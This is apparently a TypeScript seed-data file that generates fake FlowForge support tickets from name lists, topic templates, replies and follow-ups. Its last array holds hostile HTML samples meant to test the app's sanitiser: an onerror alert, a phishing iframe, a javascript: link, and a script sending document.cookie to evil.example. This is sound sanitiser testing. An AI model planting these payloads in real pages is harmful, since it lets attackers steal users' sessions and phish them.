// Word lists and message templates for the generated FlowForge support desk. Placeholders in
// braces ({instance}, {node}, ...) are filled per ticket by the generator.

export const FIRST_NAMES = [
  "Anna", "Ben", "Chloe", "Dmitri", "Elif", "Femi", "Grace", "Hiroshi", "Ines", "Jakub",
  "Kasia", "Lars", "Maya", "Nikhil", "Olu", "Paula", "Quentin", "Rosa", "Sven", "Tariq",
  "Uma", "Viktor", "Wen", "Xavier", "Yara", "Zoë", "Amir", "Beatriz", "Chen", "Dara",
  "Emma", "François", "Giulia", "Hamza", "Ingrid", "Jonas", "Kofi", "Lena", "Mateo", "Nora",
  "Oscar", "Priyanka", "Rafael", "Sofia", "Thabo", "Ursula", "Valentina", "Will", "Yusuf", "Zara",
  "Aoife", "Bjørn", "Carmen", "Deepak", "Erik", "Fatima", "Gareth", "Hana", "Iain", "Julia",
] as const;

export const LAST_NAMES = [
  "Andersen", "Bakker", "Costa", "Dubois", "Eriksson", "Fischer", "García", "Hughes", "Ivanova", "Jensen",
  "Kowalski", "Larsen", "Müller", "Nakamura", "Okafor", "Petrov", "Quinn", "Rossi", "Schmidt", "Tanaka",
  "Usman", "Varga", "Walsh", "Xu", "Yilmaz", "Zhang", "Abbott", "Brennan", "Chowdhury", "Da Silva",
  "Evans", "Fernandes", "Gallagher", "Haddad", "Iqbal", "Jovanović", "Kelly", "Lindqvist", "Mensah", "Novak",
  "O'Brien", "Patel", "Reyes", "Sato", "Thompson", "Ueda", "Van Dijk", "Wright", "Young", "Ziegler",
] as const;

export const COMPANY_WORDS = [
  "Northwind", "Bluewater", "Ironbridge", "Kestrel", "Meridian", "Oakridge", "Pinnacle", "Redline", "Silverlake", "Tidewater",
  "Alder", "Beacon", "Cobalt", "Delta", "Evergreen", "Foxglove", "Granite", "Harbor", "Juniper", "Lumen",
  "Magnolia", "Nordic", "Orion", "Polaris", "Quarry", "Riverside", "Summit", "Trident", "Vertex", "Westfield",
  "Apex", "Brightside", "Cedar", "Dynamo", "Ember", "Fjord", "Helix", "Ionic", "Kinetic", "Lighthouse",
] as const;

export const COMPANY_KINDS = [
  "Automation", "Robotics", "Energy", "Manufacturing", "Foods", "Water", "Logistics", "Controls", "Industrial", "Labs",
  "Brewing", "Packaging", "Solar", "Farms", "Pharma", "Plastics", "Textiles", "Metals", "Rail", "Utilities",
] as const;

export const COMPANY_SUFFIXES = ["Ltd", "GmbH", "Inc", "BV", "AB", "SA", "", "", "", ""] as const;

export const INDUSTRIES = ["Manufacturing", "Energy", "Food & Beverage", "Utilities", "Logistics", "Pharmaceuticals", "Agriculture", "Building Automation"] as const;

export const COUNTRIES = ["United Kingdom", "Germany", "Netherlands", "United States", "Sweden", "Poland", "France", "Spain", "Italy", "Japan", "India", "Brazil"] as const;

export const FREEMAIL_DOMAINS = ["gmail.com", "outlook.com", "proton.me", "yahoo.com", "hotmail.co.uk"] as const;

export const JOB_TITLES = ["Automation Engineer", "Controls Engineer", "IT Manager", "OT Architect", "Plant Manager", "Software Developer", "Operations Lead", "Finance Manager", "CTO", "Maintenance Technician"] as const;

/** The FlowForge support team, who own tickets and answer customers. */
export const TEAM = [
  { firstName: "Priya", lastName: "Raman", email: "priya@flowforge.com" },
  { firstName: "Tom", lastName: "Hughes", email: "tom@flowforge.com" },
  { firstName: "Marta", lastName: "Kowalska", email: "marta@flowforge.com" },
  { firstName: "Daniel", lastName: "Osei", email: "daniel@flowforge.com" },
  { firstName: "Sophie", lastName: "Laurent", email: "sophie@flowforge.com" },
  { firstName: "Ben", lastName: "Carter", email: "ben@flowforge.com" },
] as const;

export const INSTANCE_NAMES = [
  "factory-line-3", "plant-monitoring", "warehouse-scada", "energy-dashboard", "bottling-line", "hvac-control",
  "packaging-prod", "test-instance", "opcua-gateway", "fleet-telemetry", "water-treatment", "cold-store-alerts",
] as const;

export const DEVICE_NAMES = ["rpi-press-01", "edge-gw-berlin", "line2-plc-bridge", "ctrlx-core-7", "kiosk-lobby", "boiler-room-pi", "agv-dock-04"] as const;

export const TEAM_NAMES = ["Operations", "Plant Engineering", "Digital Factory", "OT Platform", "Site Reliability", "Innovation Lab"] as const;

export const FF_VERSIONS = ["2.8.0", "2.9.1", "2.10.0", "2.11.2", "2.12.0"] as const;
export const NR_VERSIONS = ["3.1.9", "3.1.15", "4.0.2", "4.0.9"] as const;
export const PLANS = ["Starter", "Team", "Enterprise"] as const;

/** Real 3rd-party node packages that customers ask about. */
export const NODE_PACKAGES = [
  "node-red-contrib-modbus", "node-red-contrib-s7", "@flowfuse/node-red-dashboard", "node-red-node-email",
  "node-red-contrib-influxdb", "node-red-contrib-opcua", "node-red-node-mysql", "node-red-contrib-mssql-plus",
  "node-red-contrib-telegrambot", "node-red-node-serialport", "node-red-contrib-cron-plus", "node-red-contrib-postgresql",
  "node-red-contrib-buffer-parser", "node-red-node-sqlite", "@node-red-contrib-themes/theme-collection",
] as const;

export const DOCS = {
  instanceStates: "https://flowfuse.com/docs/user/instance-states",
  snapshots: "https://flowfuse.com/docs/user/snapshots",
  deviceDeploy: "https://flowfuse.com/docs/device-agent/deploy",
  deviceAgent: "https://flowfuse.com/docs/device-agent/running",
  deviceRegister: "https://flowfuse.com/docs/device-agent/register",
  teams: "https://flowfuse.com/docs/user/team/",
  teamBroker: "https://flowfuse.com/docs/user/teambroker",
  pipelines: "https://flowfuse.com/docs/user/devops-pipelines",
  blueprints: "https://flowfuse.com/docs/user/concepts",
  billing: "https://flowfuse.com/docs/cloud/billing",
  sso: "https://flowfuse.com/docs/admin/sso/",
  customNodes: "https://flowfuse.com/docs/user/custom-npm-packages",
  upgradeNodeRed: "https://flowfuse.com/docs/upgrade/nodered-version",
  dockerInstall: "https://flowfuse.com/docs/install/docker/",
  k8sInstall: "https://flowfuse.com/docs/install/kubernetes/",
  logs: "https://flowfuse.com/docs/user/logs",
  debugging: "https://flowfuse.com/docs/debugging/",
  envVars: "https://flowfuse.com/docs/user/envvar",
  persistentContext: "https://flowfuse.com/docs/user/persistent-context",
  dashboards: "https://flowfuse.com/docs/user/dashboards",
  ha: "https://flowfuse.com/docs/user/high-availability",
  licensing: "https://flowfuse.com/docs/upgrade/open-source-to-premium",
  userSettings: "https://flowfuse.com/docs/user/user-settings",
  customHostnames: "https://flowfuse.com/docs/user/custom-hostnames",
} as const;

export const COMMUNITY_LINKS = {
  forum: "https://discourse.nodered.org/",
  slack: "https://nodered.org/slack",
  flowforgeIssues: "https://github.com/flowforge/flowforge/issues",
} as const;

export type TopicKind = "app-bug" | "billing" | "node-red" | "third-party" | "self-hosted" | "enterprise" | "feature";

export interface Topic {
  kind: TopicKind;
  category: "PRODUCT_ISSUE" | "BILLING_ISSUE" | "FEATURE_REQUEST" | "GENERAL_INQUIRY";
  subject: string;
  body: string;
  /** What the team answers first; carries the documentation link the handbook asks for. */
  reply: string;
}

export const TOPICS: readonly Topic[] = [
  // Bugs in the FlowForge application (in scope).
  {
    kind: "app-bug",
    category: "PRODUCT_ISSUE",
    subject: "Instance stuck in 'starting' after upgrade",
    body: "Since upgrading our instance {instance} to Node-RED {nrVersion} this morning it has been stuck in the 'starting' state. We have tried suspending and restarting it twice. The audit log shows the restart request but nothing after that. This is our production line so it is fairly urgent.",
    reply: "Thanks for reporting this. I can see {instance} is waiting on its launcher; I have restarted it from our side and we are looking at why the upgrade stalled. The instance states are explained here: {doc:instanceStates}. Could you tell me if you had any custom nodes installed that pin an older Node.js version?",
  },
  {
    kind: "app-bug",
    category: "PRODUCT_ISSUE",
    subject: "Snapshots fail to deploy to device",
    body: "We created a snapshot of {instance} and set it as the target for our device group, but {device} never picks it up. The device shows as online in the team view and the agent log says 'Snapshot download failed: 500'. We are on device agent {version}.",
    reply: "Sorry about that. A 500 on the snapshot download usually means the snapshot still references a credential secret the device cannot read. Please check the steps in {doc:deviceDeploy} and {doc:snapshots}, and send us the full agent log if it still fails.",
  },
  {
    kind: "app-bug",
    category: "PRODUCT_ISSUE",
    subject: "Team invitation email never arrives",
    body: "I invited two colleagues to our team '{team}' yesterday. The invitations show as pending but neither of them has received the email, and it is not in their spam folder. Can you resend them or tell me what is wrong?",
    reply: "I have checked our mail logs and the invitations were rejected by your mail server's spam filter. Please ask IT to allow mail from flowforge.com; in the meantime the invite link can be copied from the team's Members page, as described in {doc:teams}.",
  },
  {
    kind: "app-bug",
    category: "PRODUCT_ISSUE",
    subject: "MQTT broker refusing connections from our clients",
    body: "Our clients can no longer connect to the team MQTT broker. They get 'Connection refused: not authorized' even though the credentials have not changed. This started around {time} today. Topic ACLs look correct in the UI.",
    reply: "Thank you. We found a configuration rollout that affected a few team brokers and have reverted it; your clients should reconnect now. For reference the broker settings are covered in {doc:teamBroker}. Please let us know if any client is still refused.",
  },
  {
    kind: "app-bug",
    category: "PRODUCT_ISSUE",
    subject: "Device agent keeps restarting Node-RED",
    body: "The device agent on {device} restarts Node-RED every few minutes. The log shows 'Node-RED exited with code 1' and then it starts again. The same flows run fine on the hosted instance {instance}.",
    reply: "That restart loop usually comes from a node that fails to install on the device's architecture. Please run the agent with debug logging as shown in {doc:deviceAgent} and send us the output, and we will look at which module fails.",
  },
  {
    kind: "app-bug",
    category: "PRODUCT_ISSUE",
    subject: "DevOps pipeline stage fails with 'Instance busy'",
    body: "Our pipeline from development to production fails at the second stage with the error 'Instance busy'. Nothing else is deploying at the same time. We have pushed the same pipeline successfully many times before.",
    reply: "We can reproduce this and it looks like a bug in how the pipeline waits for the target to become idle. I have raised it with engineering. As a workaround, running the stage again after a minute works; pipelines are documented at {doc:pipelines}.",
  },
  {
    kind: "app-bug",
    category: "PRODUCT_ISSUE",
    subject: "Blueprint import creates empty flows",
    body: "When I create a new instance from the blueprint 'Manufacturing OEE dashboard', the instance starts but the editor shows an empty workspace. The blueprint preview shows the flows correctly.",
    reply: "Thanks for the report, we have reproduced it with that blueprint and are working on a fix. In the meantime you can import the flows from the blueprint page manually. More on blueprints: {doc:blueprints}.",
  },
  {
    kind: "app-bug",
    category: "PRODUCT_ISSUE",
    subject: "Editor very slow to load for {instance}",
    body: "The Node-RED editor for {instance} takes more than a minute to load and sometimes times out with a 502. The dashboard itself is fine. The instance has about 40 flows.",
    reply: "I had a look at {instance}: the editor is slow because the flows file is over 20 MB, mostly from inline images in template nodes. The logs at {doc:logs} show the load time. Moving the images to the static asset service should fix it.",
  },
  {
    kind: "app-bug",
    category: "PRODUCT_ISSUE",
    subject: "Environment variables not applied after restart",
    body: "We changed an environment variable on {instance} and restarted it, but the flows still see the old value. We tried a full suspend and resume as well.",
    reply: "Thanks. Environment variables are read when Node-RED starts, so a restart should pick them up; we found the settings save did not complete for your instance and have fixed it. See {doc:envVars} for how the values are applied.",
  },
  {
    kind: "app-bug",
    category: "PRODUCT_ISSUE",
    subject: "Custom hostname certificate not renewing",
    body: "Our custom hostname for {instance} shows a certificate that expired yesterday. The hostname still points at FlowForge and nothing changed on our side.",
    reply: "Sorry about this: the renewal failed because of a DNS lookup timeout on our side. We have renewed the certificate manually. Custom hostnames are described in {doc:customHostnames}.",
  },
  // Account and billing (in scope).
  {
    kind: "billing",
    category: "BILLING_ISSUE",
    subject: "Invoice {invoice} shows the wrong VAT number",
    body: "Our invoice {invoice} has an old VAT number on it. Our finance team needs a corrected invoice before they can pay it. The correct VAT number is on our billing profile.",
    reply: "Thanks, I have asked our billing team to reissue {invoice} with the VAT number from your billing profile; you will receive it by email. Billing details are explained at {doc:billing}.",
  },
  {
    kind: "billing",
    category: "BILLING_ISSUE",
    subject: "How do I upgrade our plan to {plan}?",
    body: "We are currently on the Starter plan and would like to move our team to the {plan} plan so we can use pipelines and more instances. Will we lose anything during the change, and is the price pro-rated?",
    reply: "Good news, the change is instant and nothing is lost; the difference is pro-rated on your next invoice. You can change plan from the team's Billing page, as described in {doc:billing}.",
  },
  {
    kind: "billing",
    category: "BILLING_ISSUE",
    subject: "Card declined, instances suspended",
    body: "We got an email that our card was declined and now two of our instances are suspended. We have updated the card. How do we get the instances running again as soon as possible?",
    reply: "I can see the new card was charged successfully. Suspended instances do not restart by themselves, so please start them from the instance page; see {doc:billing} for what happens when a payment fails.",
  },
  {
    kind: "billing",
    category: "BILLING_ISSUE",
    subject: "Please delete my account",
    body: "I no longer use FlowForge and would like my account and all my data deleted. Please confirm when this has been done.",
    reply: "Sorry to see you go. Your account can be deleted from User Settings once you have left or deleted your teams, see {doc:userSettings}. Let me know if anything blocks you and I will do it for you.",
  },
  {
    kind: "billing",
    category: "GENERAL_INQUIRY",
    subject: "Setting up SSO for our team",
    body: "We would like everybody in our company to sign in to FlowForge with our Azure AD. What do we need to send you to configure SSO, and is it available on our plan?",
    reply: "SSO is available on the Enterprise plan. The SAML configuration steps are at {doc:sso}; please send us your IdP metadata URL and the email domain you want to use and we will enable it.",
  },
  {
    kind: "billing",
    category: "BILLING_ISSUE",
    subject: "Charged twice this month",
    body: "Our card statement shows two charges of {amount} from FlowForge this month. We only have one team. Could you check and refund the duplicate?",
    reply: "You are right, the second charge was a retry that should not have happened. I have refunded it; the refund takes 5-10 working days to appear. Billing is explained at {doc:billing}.",
  },
  // Node-RED itself and the customer's own flows (out of scope).
  {
    kind: "node-red",
    category: "GENERAL_INQUIRY",
    subject: "Function node: msg.payload is undefined",
    body: "In my function node I set msg.payload = data.value and return msg, but the debug node after it shows msg.payload : undefined. The inject node before sends a JSON object. What am I doing wrong?",
    reply: "This one is about your flow rather than FlowForge, so the Node-RED forum ({community:forum}) is the best place for it. A tip: check whether data is defined from msg.payload inside the function. The debugging guide may also help: {doc:debugging}.",
  },
  {
    kind: "node-red",
    category: "GENERAL_INQUIRY",
    subject: "How to store values between flow runs with context?",
    body: "I need to keep a counter between messages and across restarts. I tried flow.set('count') but it resets when the instance restarts. Which context store should I use?",
    reply: "FlowForge instances include a persistent context store, described at {doc:persistentContext}. For questions about using context in your flows the Node-RED forum is very helpful: {community:forum}.",
  },
  {
    kind: "node-red",
    category: "GENERAL_INQUIRY",
    subject: "Dashboard 2.0 chart not updating",
    body: "My ui-chart in Dashboard 2.0 only shows the first point. I send msg.payload with a number every second from an inject node. Do I need to set msg.topic?",
    reply: "Dashboard questions are best answered by the Node-RED community ({community:forum}), and the dashboard docs are at {doc:dashboards}. For a line chart you do need msg.topic to name the series.",
  },
  {
    kind: "node-red",
    category: "GENERAL_INQUIRY",
    subject: "Split and join nodes lose messages",
    body: "I split an array of 500 readings, transform each one and join them again, but the join node sometimes outputs fewer items. Is there a limit?",
    reply: "This is a Node-RED flow question, so please ask in the forum at {community:forum}, where people can look at your flow. The join node's 'automatic' mode depends on msg.parts being preserved by every node in between.",
  },
  {
    kind: "node-red",
    category: "GENERAL_INQUIRY",
    subject: "HTTP in node returns 404 on our instance",
    body: "I created an http in node with the path /api/status but calling https://{instance}.flowforge.cloud/api/status gives 404. It works on my laptop.",
    reply: "HTTP endpoints in your flows are your own code, so the forum is the best place for detailed help: {community:forum}. One thing to check: HTTP access tokens may be enabled on the instance.",
  },
  // 3rd-party nodes (out of scope: point at the node's repository).
  {
    kind: "third-party",
    category: "GENERAL_INQUIRY",
    subject: "{node} not connecting",
    body: "We installed {node} on {instance}. The node shows 'connecting' forever. The same settings work from a laptop on the same network. Is something blocked on FlowForge?",
    reply: "Nothing is blocked for outbound connections from FlowForge Cloud. As {node} is a 3rd-party node, its repository's issue tracker is the best place to ask: https://www.npmjs.com/package/{node}. Custom nodes are covered in {doc:customNodes}.",
  },
  {
    kind: "third-party",
    category: "GENERAL_INQUIRY",
    subject: "Error installing {node}",
    body: "Installing {node} from the palette manager fails with 'npm ERR! gyp ERR! build error'. Can you install it for us?",
    reply: "{node} needs a native build that is not supported in hosted instances. Questions about the node itself should go to its maintainers: https://www.npmjs.com/package/{node}. See also {doc:customNodes}.",
  },
  {
    kind: "third-party",
    category: "GENERAL_INQUIRY",
    subject: "{node} crashes Node-RED after update",
    body: "After updating {node} to the latest version, our instance {instance} crashes on start with 'TypeError: Cannot read properties of undefined'. Rolling back the node fixes it.",
    reply: "The stack trace points into {node} itself, so please report it to its maintainers via https://www.npmjs.com/package/{node}. Until then pin the previous version as shown in {doc:customNodes}.",
  },
  // Self-managed Community Edition users (point to GitHub issues).
  {
    kind: "self-hosted",
    category: "PRODUCT_ISSUE",
    subject: "Self-hosted docker install: instances won't start",
    body: "I installed FlowForge with the docker compose install on our own server. The forge app runs, but new instances never leave 'starting'. docker ps shows no Node-RED containers. This is the self-hosted community edition.",
    reply: "Thanks for trying FlowForge. For the self-managed Community Edition please raise a GitHub issue at {community:flowforgeIssues} so the whole community can help. The docker install guide is here: {doc:dockerInstall}.",
  },
  {
    kind: "self-hosted",
    category: "PRODUCT_ISSUE",
    subject: "Kubernetes install: ingress not routing to instances",
    body: "We deployed FlowForge on Kubernetes with the helm chart. The forge UI works but instance URLs return 404 from the ingress controller.",
    reply: "Support for self-managed installs of the Community Edition goes through GitHub issues: {community:flowforgeIssues}. The Kubernetes install notes are at {doc:k8sInstall}.",
  },
  {
    kind: "self-hosted",
    category: "GENERAL_INQUIRY",
    subject: "Upgrading self-hosted FlowForge from {version}",
    body: "What is the recommended way to upgrade our self-hosted FlowForge from {version} to the latest release? We run it with docker compose and have around 10 instances.",
    reply: "Please follow the upgrade notes and raise any problems as GitHub issues at {community:flowforgeIssues}, where self-managed installs are supported. The docker guide covers upgrades: {doc:dockerInstall}.",
  },
  // Enterprise customers (custom arrangements).
  {
    kind: "enterprise",
    category: "PRODUCT_ISSUE",
    subject: "High availability instance failover test",
    body: "As agreed in our contract we would like to schedule a failover test of our HA instance {instance} next week. Who should we coordinate with?",
    reply: "Thanks, I have forwarded this to your account manager to schedule the test. The HA mode is described at {doc:ha}.",
  },
  {
    kind: "enterprise",
    category: "GENERAL_INQUIRY",
    subject: "License renewal for our on-premise installation",
    body: "Our enterprise license expires at the end of the month. Please send the renewed license file and confirm the number of instances included.",
    reply: "Your renewed license is being prepared and will be sent by your account manager. Installing it is described at {doc:licensing}.",
  },
  {
    kind: "feature",
    category: "FEATURE_REQUEST",
    subject: "Feature request: audit log export",
    body: "It would help our compliance team if we could export the team audit log as CSV for a date range. Is this on the roadmap?",
    reply: "Thanks for the suggestion, I have added your request to our product board. You can follow our roadmap in the FlowForge GitHub project: {community:flowforgeIssues}.",
  },
];

export const GREETINGS = ["Hi,", "Hello,", "Hi team,", "Good morning,", "Hello FlowForge support,", "Hi there,"] as const;
export const SIGNOFFS = ["Thanks", "Many thanks", "Best regards", "Cheers", "Kind regards", "Thank you"] as const;

export const CUSTOMER_FOLLOWUPS = [
  "Thanks for the quick answer. We tried that but it is still happening on {instance}.",
  "That worked, thank you! You can close this.",
  "Could you give me an update? This is blocking our team.",
  "Here is the log you asked for:\n\n2024-05-02T09:14:02Z [error] connection reset\n2024-05-02T09:14:05Z [info] retrying",
  "We will try this tomorrow and get back to you.",
  "Sorry, one more question: does this also apply to our other instances?",
  "It happened again this morning at {time}.",
] as const;

export const AGENT_FOLLOWUPS = [
  "Thanks for the update. I have passed the details to our engineering team and will get back to you today.",
  "Glad to hear it is working again. I will close this ticket now; reply to this email if anything comes back.",
  "Could you send the instance name and roughly when it happened so I can check our logs?",
  "We have deployed a fix for this. Could you confirm it works for you? Details: {doc:instanceStates}",
] as const;

export const INTERNAL_COMMENTS = [
  "Reproduced on staging, raising an issue.",
  "Customer is on the Team plan, check billing before refunding.",
  "@{agent} can you take this one? I'm out tomorrow.",
  "Looks like the same problem as last week's broker rollout.",
] as const;

/** A few customer messages carry hostile HTML, as real inboxes do, so the app's sanitiser is exercised. */
export const HOSTILE_HTML = [
  '<img src="x" onerror="alert(\'xss\')">',
  "<script>document.location='https://evil.example/?c='+document.cookie</script>",
  '<a href="javascript:alert(1)">see attachment</a>',
  '<iframe src="https://evil.example/phish"></iframe>',
] as const;
